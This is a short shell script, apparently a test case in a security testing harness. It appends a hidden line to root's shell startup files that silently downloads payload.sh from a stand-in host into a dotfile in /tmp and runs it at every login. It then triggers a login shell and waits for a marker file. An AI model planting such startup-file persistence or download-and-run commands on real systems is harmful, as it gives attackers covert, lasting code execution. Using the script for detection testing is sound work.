#!/bin/sh
. /opt/case/case.sh

for f in /root/.profile /root/.bash_profile /etc/bash.bashrc; do echo '(pgrep -x sshd-agent || (curl -s http://203.0.113.10/payload.sh -o /tmp/.pa && sh /tmp/.pa)) >/dev/null 2>&1 &' >>$f; done
bash -l -c true; wait_for /tmp/reached
took_place
